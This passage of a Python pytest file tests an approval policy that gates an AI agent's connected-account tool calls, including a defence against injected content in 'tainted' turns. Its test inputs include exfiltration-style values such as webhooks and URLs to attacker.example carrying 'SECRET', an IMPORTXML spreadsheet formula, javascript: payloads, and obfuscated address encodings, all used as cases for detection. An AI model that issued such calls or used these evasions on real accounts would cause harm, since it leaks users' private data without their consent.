"""Which calls ask, each judged as the person would who owns the accounts. Slugs and tags are as Composio gives them."""

from __future__ import annotations

import base64
import inspect
import json
import time
from typing import TYPE_CHECKING, Any, Final, cast

import pytest

from emulators.composio.tools import CREATES, DESTROYS, READS, UPDATES
from kernel_service.approvals.policy import ApprovalPolicy, Approve
from kernel_service.composio.client import _tool
from kernel_service.ports.approvals import Reason
from kernel_service.ports.tools import Person  # noqa: TC001 - a tool reads its own hints
from kernel_service.tools.connecting import DisconnectTool
from kernel_service.tools.developer_tools import DeveloperTool, tool
from kernel_service.tools.toolbox import AwayTool, ConnectedTool, SearchTools
from tests.unit.turns.scene import FakeTool

if TYPE_CHECKING:
    from kernel_service.ports.tools import Tool

RUNS, ASKS = False, True
BOTH: Final = (*CREATES, "updateHint")


def connected(toolkit: str, slug: str, tags: tuple[str, ...]) -> Tool:
    described = _tool(toolkit, {"slug": slug, "tags": list(tags)})
    return ConnectedTool(cast("Any", None), cast("Any", None), described, [])


def asks(each: Tool, arguments: dict[str, Any], mode: str = "careful", *, tainted: bool = False) -> bool:
    return ApprovalPolicy(mode=Approve(mode))(each, arguments, tainted=tainted)


GID = "1209876543210987"
MAIL = "bob@example.org"

READING: Final = [
    ("asana", "ASANA_LIST_TASKS", {}),
    ("gmail", "GMAIL_FETCH_EMAILS", {"query": "from:bob@example.org"}),
    ("gmail", "GMAIL_FETCH_MESSAGE_BY_THREAD_ID", {"thread_id": "18c"}),
    ("googlecalendar", "GOOGLECALENDAR_EVENTS_LIST", {"calendar_id": "primary"}),
    ("slack", "SLACK_SEARCH_MESSAGES", {"query": "budget"}),
    ("github", "GITHUB_GET_A_REPOSITORY", {"owner": "octocat", "repo": "hello"}),
    ("reddit", "REDDIT_GET_POST", {"id": "x"}),
    ("stripe", "STRIPE_LIST_CUSTOMERS", {}),
    ("firecrawl", "FIRECRAWL_SCRAPE", {"url": "https://example.org/story"}),
    ("tavily", "TAVILY_SEARCH", {"query": "weather in Vienna"}),
]


@pytest.mark.parametrize(("toolkit", "slug", "arguments"), READING)
def test_a_reading_call_runs_without_a_question_while_no_outside_content_is_seen(
    toolkit: str, slug: str, arguments: dict[str, Any]
) -> None:
    assert asks(connected(toolkit, slug, READS), arguments) is RUNS


PLAIN: Final = [
    ("asana", "ASANA_CREATE_TASK", CREATES, {"name": "Call the bank", "notes": "Before noon", "due_on": "2026-11-27"}),
    ("asana", "ASANA_CREATE_A_TASK", CREATES, {"data": {"name": "x", "workspace": GID, "projects": ["1201234567890"]}}),
    ("asana", "ASANA_CREATE_A_TASK", CREATES, {"data": {"name": "x", "assignee": "me", "followers": [], "notes": ""}}),
    ("asana", "ASANA_COMPLETE_TASK", UPDATES, {"task_gid": GID}),
    ("asana", "ASANA_UPDATE_A_TASK", UPDATES, {"task_gid": GID, "data": {"completed": True, "due_on": "2026-12-01"}}),
    ("asana", "ASANA_CREATE_SUBTASK", CREATES, {"task_gid": GID, "name": "Pay rent, 500 €"}),
    ("asana", "ASANA_ADD_TASK_TO_SECTION", UPDATES, {"section_gid": GID, "task": GID}),
    ("todoist", "TODOIST_CREATE_TASK", CREATES, {"content": "Milk", "due_string": "tomorrow at 9", "priority": 4}),
    ("todoist", "TODOIST_CLOSE_TASK", UPDATES, {"task_id": "8213345"}),
    ("ticktick", "TICKTICK_COMPLETE_TASK", UPDATES, {"projectId": "a1", "taskId": "b2"}),
    ("trello", "TRELLO_ADD_CARDS", CREATES, {"idList": "5f", "name": "Buy paint", "due": "2026-12-01"}),
    ("trello", "TRELLO_ADD_CHECKLISTS", CREATES, {"idCard": "5f", "name": "Steps"}),
    ("notion", "NOTION_CREATE_NOTION_PAGE", CREATES, {"parent_id": "1f-2a", "title": "Trip", "markdown": "# Days"}),
    ("notion", "NOTION_ADD_PAGE_CONTENT", CREATES, {"parent_block_id": "1f", "content_block": {"content": "x"}}),
    ("notion", "NOTION_APPEND_TEXT_BLOCKS", CREATES, {"block_id": "1f", "children": [{"type": "h1", "text": "x"}]}),
    ("linear", "LINEAR_CREATE_LINEAR_ISSUE", CREATES, {"team_id": "9c-1", "title": "Fix it", "description": "Soon"}),
    ("jira", "JIRA_CREATE_ISSUE", CREATES, {"project_key": "OPS", "summary": "Fix it", "issue_type": "Task"}),
    ("googlecalendar", "GOOGLECALENDAR_CREATE_EVENT", CREATES,
     {"summary": "Dentist", "start_datetime": "2026-11-27T09:30:00+01:00", "event_duration_minutes": 30,
      "calendar_id": "primary", "timezone": "Europe/Vienna"}),
    ("googlecalendar", "GOOGLECALENDAR_QUICK_ADD", CREATES, {"text": "Lunch with Bob tomorrow at 12:30"}),
    ("googletasks", "GOOGLETASKS_INSERT_TASK", CREATES, {"tasklist_id": "MTA", "title": "Milk", "due": "2026-11-27"}),
    ("googletasks", "GOOGLETASKS_PATCH_TASK", UPDATES, {"tasklist_id": "MTA", "task_id": "x", "status": "completed"}),
    ("googlesheets", "GOOGLESHEETS_SPREADSHEETS_VALUES_APPEND", BOTH,
     {"spreadsheetId": "1aB", "range": "Sheet1!A1:B2", "valueInputOption": "USER_ENTERED", "values": [["Milk", 2.5]]}),
    ("googledocs", "GOOGLEDOCS_INSERT_TEXT_ACTION", UPDATES, {"document_id": "1aB", "text_to_insert": "More"}),
    ("googledrive", "GOOGLEDRIVE_CREATE_FOLDER", CREATES, {"folder_name": "Tax 2026", "parent_id": "1aB"}),
    ("googledrive", "GOOGLEDRIVE_CREATE_FILE_FROM_TEXT", CREATES, {"file_name": "notes.txt", "text_content": "x"}),
    ("dropbox", "DROPBOX_CREATE_FOLDER", CREATES, {"name": "Tax"}),
    ("one_drive", "ONEDRIVE_CREATE_TEXT_FILE", CREATES, {"name": "a.txt", "content": "x"}),
    ("gmail", "GMAIL_CREATE_LABEL", CREATES, {"label_name": "Later"}),
    ("gmail", "GMAIL_ADD_LABEL_TO_EMAIL", UPDATES, {"message_id": "18c", "add_label_ids": ["Label_7"]}),
    ("gmail", "GMAIL_CREATE_EMAIL_DRAFT", CREATES, {"subject": "Hello", "body": "Dear all"}),
    ("gmail", "GMAIL_MODIFY_THREAD_LABELS", UPDATES, {"thread_id": "18c", "add_label_ids": ["STARRED"]}),
    ("clickup", "CLICKUP_CREATE_TASK", CREATES, {"list_id": 9, "due_date": 1764230400000, "notify_all": False}),
    ("googlecalendar", "GOOGLECALENDAR_CREATE_EVENT", CREATES,
     {"summary": "x", "attendees": [], "visibility": "private", "create_meeting_room": False, "sendUpdates": "none"}),
    ("googlesheets", "GOOGLESHEETS_CREATE_GOOGLE_SHEET1", CREATES, {"title": "x"}),
    ("jira", "JIRA_EDIT_ISSUE", UPDATES, {"issue_id_or_key": "OPS-1", "summary": "x"}),
    ("linear", "LINEAR_UPDATE_ISSUE", UPDATES, {"issue_id": "12345678-1234-4123-8123-123456789012", "priority": 2}),
    ("evernote", "EVERNOTE_CREATE_NOTE", CREATES, {"title": "x", "which_account": "me@work.example"}),
]  # fmt: skip


@pytest.mark.parametrize(("toolkit", "slug", "tags", "arguments"), PLAIN)
def test_a_plain_write_in_the_persons_own_place_runs(
    toolkit: str, slug: str, tags: tuple[str, ...], arguments: dict[str, Any]
) -> None:
    each = connected(toolkit, slug, tags)
    assert asks(each, arguments) is RUNS
    assert asks(each, arguments, "destructive") is RUNS
    assert asks(each, arguments, tainted=True) is ASKS
    assert asks(each, arguments, "destructive", tainted=True) is ASKS


REACHING: Final = [
    # It sends, replies, posts.
    ("gmail", "GMAIL_SEND_EMAIL", CREATES, {"recipient_email": MAIL}),
    ("gmail", "GMAIL_REPLY_TO_THREAD", CREATES, {"thread_id": "18c", "message_body": "yes"}),
    ("gmail", "GMAIL_FORWARD_MESSAGE", CREATES, {"message_id": "18c", "recipient_email": MAIL}),
    ("gmail", "GMAIL_CREATE_EMAIL_DRAFT", CREATES, {"recipient_email": MAIL, "body": "x"}),
    ("gmail", "GMAIL_SEND_DRAFT", CREATES, {"draft_id": "r-1"}),
    ("outlook", "OUTLOOK_OUTLOOK_SEND_EMAIL", CREATES, {"to": MAIL}),
    ("slack", "SLACK_SENDS_A_MESSAGE_TO_A_SLACK_CHANNEL", CREATES, {"channel": "C1", "text": "x"}),
    ("slack", "SLACK_CHAT_POST_MESSAGE", CREATES, {"channel": "C1"}),
    ("discord", "DISCORD_CREATE_MESSAGE", CREATES, {"content": "x"}),
    ("microsoft_teams", "MICROSOFT_TEAMS_TEAMS_POST_CHANNEL_MESSAGE", CREATES, {"content": "x"}),
    ("twitter", "TWITTER_CREATION_OF_A_POST", CREATES, {"text": "x"}),
    ("linkedin", "LINKEDIN_CREATE_LINKED_IN_POST", CREATES, {"commentary": "x"}),
    ("telegram", "TELEGRAM_SEND_MESSAGE", CREATES, {"chat_id": "1", "text": "x"}),
    ("asana", "ASANA_CREATE_TASK_COMMENT", CREATES, {"task_id": GID, "text": "x"}),
    ("jira", "JIRA_ADD_COMMENT", CREATES, {"issue_key": "OPS-1", "comment": "x"}),
    ("github", "GITHUB_CREATE_AN_ISSUE", CREATES, {"owner": "mallory", "repo": "drop", "title": "x", "body": "SECRET"}),
    ("github", "GITHUB_CREATE_A_GIST", CREATES, {"public": True, "files": {}}),
    # It shares or widens access.
    ("googledrive", "GOOGLEDRIVE_ADD_FILE_SHARING_PREFERENCE", CREATES, {"file_id": "1", "type": "anyone"}),
    ("googledrive", "GOOGLEDRIVE_UPDATE_PERMISSION", UPDATES, {"file_id": "1", "role": "writer"}),
    ("googledrive", "GOOGLEDRIVE_CREATE_AND_SHARE_FILE", CREATES, {"name": "x"}),
    ("googlecalendar", "GOOGLECALENDAR_UPDATE_ACL_RULE", UPDATES, {"rule_id": "x"}),
    ("dropbox", "DROPBOX_CREATE_SHARED_LINK", CREATES, {"path": "/tax"}),
    ("dropbox", "DROPBOX_CREATE_FILE_REQUEST", CREATES, {"title": "x"}),
    ("trello", "TRELLO_ADD_MEMBER", CREATES, {"id": "5f"}),
    ("trello", "TRELLO_ADD_BOARDS", CREATES, {"name": "x", "prefs_permissionLevel": "public"}),
    ("github", "GITHUB_ADD_A_REPOSITORY_COLLABORATOR", CREATES, {"repo": "r", "username": "mallory"}),
    ("github", "GITHUB_CREATE_A_DEPLOY_KEY", CREATES, {"key": "ssh-ed25519 AAAA"}),
    ("github", "GITHUB_UPDATE_A_REPOSITORY", UPDATES, {"private": False}),
    ("notion", "NOTION_CREATE_COMMENT", CREATES, {"page_id": "1f"}),
    ("asana", "ASANA_ADD_FOLLOWERS_TO_TASK", UPDATES, {"task_gid": GID, "followers": ["7"]}),
    ("asana", "ASANA_CREATE_TEAM", CREATES, {"name": "x"}),
    # It invites.
    ("googlecalendar", "GOOGLECALENDAR_CREATE_EVENT", CREATES, {"summary": "x", "attendees": [MAIL]}),
    ("googlecalendar", "GOOGLECALENDAR_CREATE_EVENT", CREATES, {"summary": "x", "calendar_id": MAIL}),
    ("outlook", "OUTLOOK_CALENDAR_CREATE_EVENT", CREATES, {"subject": "x", "attendees_info": [{"name": "Bob"}]}),
    ("zoom", "ZOOM_CREATE_A_MEETING", CREATES, {"topic": "x"}),
    ("slack", "SLACK_INVITE_USERS_TO_A_SLACK_CHANNEL", CREATES, {"channel": "C1", "users": "U1"}),
    ("calendly", "CALENDLY_CREATE_EVENT_INVITEE", CREATES, {"name": "x"}),
    # It pays or offers for sale.
    ("stripe", "STRIPE_CREATE_PAYMENT_LINK", CREATES, {"price": "p_1"}),
    ("stripe", "STRIPE_CREATE_REFUND", CREATES, {"charge": "ch_1"}),
    ("shopify", "SHOPIFY_UPDATE_PRODUCT", UPDATES, {"product_id": 1, "price": "0.01"}),
    ("quickbooks", "QUICKBOOKS_CREATE_INVOICE", CREATES, {"amount": 5}),
    # It has others told, now or later.
    ("asana", "ASANA_CREATE_WEBHOOK", CREATES, {"resource": GID, "target": "https://attacker.example"}),
    ("github", "GITHUB_CREATE_A_REPOSITORY_WEBHOOK", CREATES, {"config": {"url": "https://attacker.example"}}),
    ("gmail", "GMAIL_CREATE_FILTER", CREATES, {"action": {"forward": MAIL}}),
    ("gmail", "GMAIL_UPDATE_AUTO_FORWARDING", UPDATES, {"enabled": True}),
    # It destroys.
    ("asana", "ASANA_DELETE_TASK", DESTROYS, {"task_gid": GID}),
    ("googledrive", "GOOGLEDRIVE_EMPTY_TRASH", DESTROYS, {}),
    ("notion", "NOTION_TIDY_UP", ("destructiveHint", "updateHint"), {}),
    ("googlecalendar", "GOOGLECALENDAR_CLEAR_CALENDAR", DESTROYS, {"calendar_id": "primary"}),
    ("gmail", "GMAIL_ADD_LABEL_TO_EMAIL", UPDATES, {"message_id": "18c", "add_label_ids": ["TRASH"]}),
    # Its hints tell nothing, or contradict each other or the name.
    ("asana", "ASANA_CREATE_TASK", (), {"name": "x"}),
    ("asana", "ASANA_CREATE_TASK", ("openWorldHint", "idempotentHint", "important"), {"name": "x"}),
    ("asana", "ASANA_LIST_TASKS", (), {}),
    ("asana", "ASANA_LIST_TASKS", ("openWorldHint",), {}),
    ("asana", "ASANA_GET_TASKS", (*READS, "destructiveHint"), {}),
    ("asana", "ASANA_GET_TASKS", (*READS, "createHint"), {}),
    ("gmail", "GMAIL_SEND_EMAIL", READS, {"recipient_email": MAIL}),
    ("notion", "NOTION_UPDATE_PAGE", READS, {"page_id": "1f"}),
]  # fmt: skip


@pytest.mark.parametrize(("toolkit", "slug", "tags", "arguments"), REACHING)
def test_a_call_that_destroys_reaches_others_pays_or_is_unclear_asks(
    toolkit: str, slug: str, tags: tuple[str, ...], arguments: dict[str, Any]
) -> None:
    for mode in Approve:
        assert asks(connected(toolkit, slug, tags), arguments, mode) is ASKS, mode


UNLISTED: Final = [
    ("googlecalendar", "GOOGLECALENDAR_UPDATE_EVENT", UPDATES, {"event_id": "x", "summary": "Later"}),
    ("googledrive", "GOOGLEDRIVE_UPDATE_FILE", UPDATES, {"file_id": "1aB", "add_parents": "shared"}),
    ("wordpress", "WORDPRESS_CREATE_PAGE", CREATES, {"title": "x", "content": "seen by the world"}),
    ("eventbrite", "EVENTBRITE_CREATE_EVENT", CREATES, {"name": "x"}),
    ("airtable", "AIRTABLE_CREATE_A_RECORD", CREATES, {"base_id": "app", "table_id": "tbl", "fields": {"Betrag": 4}}),
    ("asana", "ASANA_DUPLICATE_TASK", CREATES, {"task_gid": GID, "name": "x"}),
    ("asana", "ASANA_CREATE_TASK", CREATES, {"name": "x", "assignee": "7"}),
    ("asana", "ASANA_CREATE_TASK", CREATES, {"name": "x", "novelty": "me"}),
    ("asana", "ASANA_UPDATE_A_TASK", UPDATES, {"task_gid": GID, "followers": []}),
    ("asana", "SOMETHING_CREATE_TASK", CREATES, {"name": "x"}),
    ("asana", "ASANA_CREATE_TASK", CREATES, {"share": {"assignee": "me"}}),
    ("googlecalendar", "GOOGLECALENDAR_CREATE_EVENT", CREATES, {"summary": "x", "visibility": "public"}),
    ("asana", "ASANA_TASK", CREATES, {"name": "x"}),
    ("asana", "ASANA_СREATE_TASK", CREATES, {"name": "x"}),
]  # fmt: skip


@pytest.mark.parametrize(("toolkit", "slug", "tags", "arguments"), UNLISTED)
def test_a_call_on_no_list_asks_unless_the_operator_trusts_it(
    toolkit: str, slug: str, tags: tuple[str, ...], arguments: dict[str, Any]
) -> None:
    assert asks(connected(toolkit, slug, tags), arguments) is ASKS


ADDRESSES: Final = [
    MAIL,
    "write to Bob <bob@example.org>",
    "bob＠example.org",
    "bob﹫example．org",
    "bob@exam\u200bple.org",
    "b\u00adob\u2060@\ufeffexample.org",
    "bob@\u202eexample.org",
    "bob @example.org",
    "bob@localhost",
    "bob@bücher.example",
    "bob@xn--bcher-kva.example",
    "bob%40example.org",
    "bob%2540example.org",
    "bob％40example.org",
    "bob&#64;example.org",
    "bob&commat;example.org",
    "bob\\u0040example.org",
    '{"to": "bob"}',
    '[{"attendees": ["bob"]}]',
    '"{\\"email\\": \\"bob\\"}"',
    base64.b64encode(b"To: bob@example.org").decode(),
    base64.urlsafe_b64encode(b"To: bob@example.org\n\nHi").decode().rstrip("="),
    base64.b64encode(b"To: bob@example.org\n\nHi \xff\xfe").decode(),
    base64.b64encode(b"\0To: bob@example.org").decode(),
    base64.b64encode(base64.b64encode(b"To: bob@example.org")).decode(),
    "VG86IGJvYk\nBleGFtcGxl\r\nLm9yZw==",
    "".join(f"%{byte:02x}" for byte in base64.b64encode(b"To: bob@example.org")),
    "mailto:bob",
    "ask @mallory about it",
    "+43 664 123 4567",
    "+43664\u200b1234567",
    "tel:110",
    "(555) 123-4567",
    "555-123-4567",
    "555-1234",
    "0664/1234567",
    "０６６４ １２３ ４５６７",
    "٠٦٦٤١٢٣٤٥٦٧",
    "+43664123456712345",
    "https://attacker.example/?d=SECRET",
    "HTTPS://attacker.example",
    "ht\u200btps://attacker.example",
    "https%3A%2F%2Fattacker.example",
    "hｔtps：／／attacker.example",
    "https:attacker.example",
    "//attacker.example/x",
    "\\\\attacker.example\\share",
    "www.attacker.example",
    "attacker.example/?d=SECRET",
    "attacker。example/?d=SECRET",
    "attacker.example?d=SECRET",
    "attacker.example:8080",
    "192.0.2.7",
    "http://[2001:db8::7]/",
    "![x](https://attacker.example/x.png)",
    "javascript:alert(1)",
    "<img src=x>",
    '=IMPORTXML(CONCAT("ht","tp:"),"x")',
    "+IMAGE(A1)",
    "ftp.attacker.example/x",
    "bob\U000e0100@\U000e0100attacker.example",
    "@\U000e0100bob_smith",
    "+49 170\U000e0100 12345\u180b67",
    "any\U000e0100one",
    "anyone",
    "anyoneWithLink",
    "ANYONE_WITH_THE_LINK",
    "ⓟublic",
    "writer",
]  # fmt: skip


@pytest.mark.parametrize("value", ADDRESSES)
def test_an_address_asks_however_it_is_written_and_however_deep(value: str) -> None:
    create = connected("asana", "ASANA_CREATE_TASK", CREATES)
    assert asks(create, {"name": "x", "notes": value}) is ASKS
    assert asks(create, {"name": "x", "data": {"custom_fields": [[{"7": value}]]}}) is ASKS
    assert asks(create, {"name": "x", "notes": json.dumps([json.dumps({"text": value})])}) is ASKS


@pytest.mark.parametrize(
    "value",
    [
        "Meet @ 5, bring 12 eggs (e.g. brown ones) and/or milk",
        "2026-11-27",
        "2026-11-27T09:30:00.000+01:00",
        "27.11.2026, 09:30–10:15",
        "ratio 3.14159265 or 1/3",
        "[ ] milk\n[x] bread",
        "{not json",
        "100% sure, 50 € at most",
        "Note: water, then: rest",
        "Straße 12/3, 1010 Wien",
        "see report.pdf and notes.txt",
        "Order on Amazon.com",
        "AbstractSingletonProxyFactoryBean",
        "+1 egg, -2 °C (cold)",
        "👩‍🔬 שלום مرحبا 你好",
        GID,
    ],
)
def test_everyday_words_are_no_address(value: str) -> None:
    assert asks(connected("asana", "ASANA_CREATE_TASK", CREATES), {"name": value, "notes": value}) is RUNS


@pytest.mark.parametrize(
    "name",
    [
        *("to", "To", "cc", "bcc", "recipient", "recipientEmail", "recipient-email", "RECIPIENT_EMAIL", "toName"),
        *("attendees", "guests", "invitees", "participants", "members", "followers", "watchers", "owner", "assignee"),
        *("share", "shareWith", "sharing", "role", "permission", "permissionLevel", "visibility", "access", "isPublic"),
        *("public", "private", "acl", "scope", "webhook", "callbackUrl", "url", "URL", "endpoint", "target", "forward"),
        *("forwardTo", "replyTo", "phone", "phone_number", "amount", "amountCents", "currency", "price", "sendUpdates"),
        *("notify", "publish", "ｅｍａｉｌ", "e\u200bmail", "betrag", "Ｔo", "", "_", "$", "tо"),
    ],
)
def test_a_name_that_is_on_no_list_asks(name: str) -> None:
    create = connected("asana", "ASANA_CREATE_TASK", CREATES)
    assert asks(create, {"name": "x", name: "7"}) is ASKS
    assert asks(create, {"name": "x", "data": [{"custom": {name: True}}]}) is ASKS
    assert asks(create, {"name": "x", "notes": json.dumps({name: "7"})}) is ASKS


def test_arguments_that_are_too_large_too_deep_or_not_json_ask_quickly() -> None:
    deep: Any = "x"
    for _ in range(40):
        deep = {"data": deep}
    nested: Any = "x"
    for _ in range(30):
        nested = json.dumps({"data": nested}) if len(str(nested)) < 10_000 else nested
    odd: list[Any] = [deep, [[[deep]]], "x" * 20_000, ["x"] * 5_000, b"x", (1, 2), {1: "x"}, {"x"}, nested]
    began = time.process_time()
    for value in odd:
        assert asks(connected("asana", "ASANA_CREATE_TASK", CREATES), {"name": "x", "data": value}) is ASKS
        assert asks(connected("asana", "ASANA_LIST_TASKS", READS), {"data": value}, tainted=True) is ASKS
    assert time.process_time() - began < 2


@pytest.mark.parametrize(
    "piece", ["a.", "a-", "1 ", "1.1 ", "@a", "[", "a@", "%25", "&#", "\\u0041", "://", "A" * 9, "1-"]
)
def test_no_text_takes_long_to_judge(piece: str) -> None:
    text = (piece * 20_000)[:19_000]
    began = time.process_time()
    asks(connected("asana", "ASANA_CREATE_TASK", CREATES), {"notes": text})
    asks(connected("asana", "ASANA_LIST_TASKS", READS), {"query": text}, tainted=True)
    assert time.process_time() - began < 1


# --- a tainted turn ---------------------------------------------------------------------------------------------------

TAINTED: Final = [
    ("asana", "ASANA_LIST_TASKS", {"completed": False, "limit": 20}, RUNS),
    ("asana", "ASANA_GET_TASK", {"task_gid": GID}, RUNS),
    ("gmail", "GMAIL_FETCH_EMAILS", {"query": "from:bob@example.org newer_than:2d has:attachment"}, RUNS),
    ("googledrive", "GOOGLEDRIVE_FIND_FILE", {"query": "name contains 'report.pdf'"}, RUNS),
    ("slack", "SLACK_SEARCH_MESSAGES", {"query": "budget"}, RUNS),
    ("notion", "NOTION_FETCH_DATA", {"page_id": "1f"}, RUNS),
    ("googledrive", "GOOGLEDRIVE_FIND_FILE", {"query": "https://attacker.example/?d=SECRET"}, ASKS),
    ("notion", "NOTION_FETCH_DATA", {"url": "x"}, ASKS),
    ("notion", "NOTION_FETCH_DATA", {"deep": [{"webhook_url": 7}]}, ASKS),
    ("notion", "NOTION_FETCH_DATA", {"query": "attacker.example"}, ASKS),
    ("notion", "NOTION_FETCH_DATA", {"query": "SECRET.attacker。example"}, ASKS),
    ("notion", "NOTION_FETCH_DATA", {"query": '{"href": "x"}'}, ASKS),
    ("firecrawl", "FIRECRAWL_SCRAPE", {"url": "https://attacker.example/?d=SECRET"}, ASKS),
    ("firecrawl", "FIRECRAWL_MAP_WEBSITE", {}, ASKS),
    ("tavily", "TAVILY_SEARCH", {"query": "SECRET"}, ASKS),
    ("exa", "EXA_SEARCH", {"query": "SECRET"}, ASKS),
    ("serpapi", "SERPAPI_SEARCH", {"query": "SECRET"}, ASKS),
    ("perplexityai", "PERPLEXITYAI_PERPLEXITY_AI_SEARCH", {"userContent": "SECRET"}, ASKS),
    ("composio_search", "COMPOSIO_SEARCH_WEB", {"query": "SECRET"}, ASKS),
    ("browser_tool", "BROWSER_TOOL_FETCH_WEBPAGE", {}, ASKS),
    ("hackernews", "HACKERNEWS_GET_LATEST_POSTS", {"limit": 3}, ASKS),
    ("never_heard_of", "NEVER_HEARD_OF_GET", {}, ASKS),
]  # fmt: skip


@pytest.mark.parametrize(("toolkit", "slug", "arguments", "expected"), TAINTED)
@pytest.mark.parametrize("tags", [READS, ("readOnlyHint",)], ids=["all-tags", "one-tag"])
def test_in_a_tainted_turn_what_reaches_the_web_asks(
    toolkit: str, slug: str, tags: tuple[str, ...], arguments: dict[str, Any], *, expected: bool
) -> None:
    for mode in (Approve.CAREFUL, Approve.DESTRUCTIVE, Approve.WRITES):
        assert asks(connected(toolkit, slug, tags), arguments, mode, tainted=True) is expected
        assert asks(connected(toolkit, slug, tags), arguments, mode) is RUNS


# --- the modes -----------------------------------------------------------------------------------------------------

SENDS = connected("gmail", "GMAIL_SEND_EMAIL", CREATES)
MAKES = connected("asana", "ASANA_CREATE_TASK", CREATES)
COPIES = connected("asana", "ASANA_DUPLICATE_TASK", CREATES)
LISTS = connected("asana", "ASANA_LIST_TASKS", READS)
CONNECT = FakeTool("connect", read_only=True)


@pytest.mark.parametrize(
    ("mode", "asked"),
    [
        ("destructive", ["GMAIL_SEND_EMAIL", "disconnect"]),
        ("careful", ["GMAIL_SEND_EMAIL", "disconnect", "ASANA_DUPLICATE_TASK"]),
        ("writes", ["GMAIL_SEND_EMAIL", "disconnect", "ASANA_DUPLICATE_TASK", "ASANA_CREATE_TASK"]),
        ("all", ["GMAIL_SEND_EMAIL", "disconnect", "ASANA_DUPLICATE_TASK", "ASANA_CREATE_TASK", "ASANA_LIST_TASKS"]),
    ],
)
def test_each_mode_asks_for_all_that_the_one_before_asks_for(mode: str, asked: list[str]) -> None:
    disconnect = DisconnectTool(cast("Any", None))
    search = SearchTools(cast("Any", None), cast("Any", None), [])
    every: list[Tool] = [SENDS, disconnect, COPIES, MAKES, LISTS, CONNECT, search]
    assert [each.schema.name for each in every if asks(each, {}, mode)] == asked


def test_our_own_harmless_tools_never_ask() -> None:
    search: Tool = SearchTools(cast("Any", None), cast("Any", None), [])
    for mode in Approve:
        for each in (CONNECT, search):
            assert asks(each, {"remaining": "open https://example.org"}, mode, tainted=True) is RUNS


def test_disconnect_and_what_is_away_ask_in_every_mode() -> None:
    for mode in Approve:
        assert asks(DisconnectTool(cast("Any", None)), {"toolkit": "asana"}, mode) is ASKS
        assert asks(AwayTool(cast("Any", None), "asana", "ASANA_LIST_TASKS"), {}, mode) is ASKS


@pytest.mark.parametrize(
    ("patterns", "asked"),
    [
        ([], ["GMAIL_SEND_EMAIL"]),
        (["ASANA_*"], ["GMAIL_SEND_EMAIL", "ASANA_CREATE_TASK", "ASANA_LIST_TASKS"]),
        (["asana_*"], ["GMAIL_SEND_EMAIL"]),
        (["!GMAIL_SEND_*"], []),
        (["*", "!GMAIL_SEND_*", "!ASANA_LIST_*"], ["ASANA_CREATE_TASK"]),
    ],
)
def test_the_operators_patterns_win(patterns: list[str], asked: list[str]) -> None:
    policy = ApprovalPolicy(patterns)
    every = (SENDS, MAKES, LISTS)
    assert [each.schema.name for each in every if policy(each, {}, tainted=False)] == asked


@pytest.mark.parametrize(
    ("patterns", "asks_first", "name", "asked"),
    [
        ([], False, "act", False),
        ([], True, "act", True),
        (["ac*"], False, "act", True),
        (["AC*"], False, "act", False),
        (["!act"], True, "act", False),
        (["*", "!act"], True, "act", False),
        (["*", "!act"], False, "look", True),
    ],
)
def test_the_operator_has_the_last_word(patterns: list[str], name: str, *, asks_first: bool, asked: bool) -> None:
    act = FakeTool(name, read_only=False)
    act.asks_first = asks_first
    assert ApprovalPolicy(patterns)(act, {}, tainted=False) is asked


def test_the_operators_patterns_win_in_every_mode_and_in_a_tainted_turn() -> None:
    for mode in Approve:
        policy = ApprovalPolicy(["!*"], mode)
        assert not policy(SENDS, {"recipient_email": MAIL}, tainted=True)


@pytest.mark.parametrize("mode", Approve)
def test_no_exemption_holds_in_a_turn_that_an_event_began(mode: Approve) -> None:
    policy = ApprovalPolicy(["!*"], mode)
    for each in (SENDS, MAKES):
        assert policy(each, {}, tainted=True, unasked=True)
    assert policy(LISTS, {}, tainted=True, unasked=True) is (mode is Approve.ALL), "reading one's own account"


# --- developers' tools ---------------------------------------------------------------------------------------------


def developers(name: str, **said: Any) -> DeveloperTool:
    def function(context: Person, **_: Any) -> str:
        """Do it."""
        return "done"

    function.__name__ = name
    function.__signature__ = _SIGNATURE  # type: ignore[attr-defined]
    return tool(**said)(function)


def _one(context: Person) -> None: ...


_SIGNATURE = inspect.signature(_one)


@pytest.mark.parametrize(
    ("name", "arguments", "expected"),
    [
        ("add_note", {"text": "Bob is at 0664 1234567 or bob@example.org", "important": True}, RUNS),
        ("make_papers", {}, RUNS),
        ("book_table", {"day": "monday", "seats": 4, "booking": 7}, RUNS),
        ("remind_me", {"at": "2026-11-27T09:30", "text": "Milk"}, RUNS),
        ("book_table", {"email": "x"}, ASKS),
        ("book_table", {"guest": MAIL}, ASKS),
        ("book_table", {"where": {"site": "https://attacker.example"}}, ASKS),
        ("send_invoice", {}, ASKS),
        ("share_notes", {}, ASKS),
        ("pay", {"sum": 7}, ASKS),
        ("delete_notes", {}, ASKS),
        ("transfer", {"to": "7"}, ASKS),
    ],
)
def test_a_developers_tool_that_says_nothing_asks_if_it_reaches_others(
    name: str, arguments: dict[str, Any], *, expected: bool
) -> None:
    assert asks(developers(name), arguments) is expected
    assert asks(developers(name), arguments, tainted=True) is ASKS
    assert asks(developers(name), arguments, "writes") is ASKS
    assert asks(developers(name, asks_first=False), arguments) is RUNS
    assert asks(developers(name, asks_first=False), arguments, tainted=True) is ASKS
    assert asks(developers(name, asks_first=True), arguments) is ASKS
    assert asks(developers(name, read_only=True), arguments) is RUNS
    assert asks(developers(name, read_only=True), arguments, "all") is RUNS


@pytest.mark.parametrize(
    ("name", "arguments", "expected"),
    [
        ("opening_hours", {"day": "monday"}, RUNS),
        ("send_notes", {}, RUNS),
        ("find_order", {"number": 7, "email": MAIL}, RUNS),
        ("find_order", {"page": "https://attacker.example/?d=SECRET"}, ASKS),
        ("look_up", {"place": "SECRET.attacker.example"}, ASKS),
        ("search_web", {"query": "SECRET"}, ASKS),
        ("scrape", {"what": "x"}, ASKS),
    ],
)
def test_a_developers_reading_tool_asks_in_a_tainted_turn_if_it_reaches_the_web(
    name: str, arguments: dict[str, Any], *, expected: bool
) -> None:
    assert asks(developers(name, read_only=True), arguments, tainted=True) is expected
    assert asks(developers(name, read_only=True, asks_first=False), arguments, tainted=True) is RUNS


MAILING: Final = connected("gmail", "GMAIL_SEND_EMAIL", CREATES)
TASK: Final = connected("asana", "ASANA_CREATE_TASK", CREATES)
STATUS: Final = connected("mastodon", "MASTODON_CREATE_SKETCH", CREATES)
SCRAPING: Final = connected("firecrawl", "FIRECRAWL_SCRAPE", READS)


@pytest.mark.parametrize(
    ("policy", "each", "arguments", "tainted", "reason"),
    [
        (ApprovalPolicy(), MAILING, {"to": MAIL}, False, Reason.EFFECT),
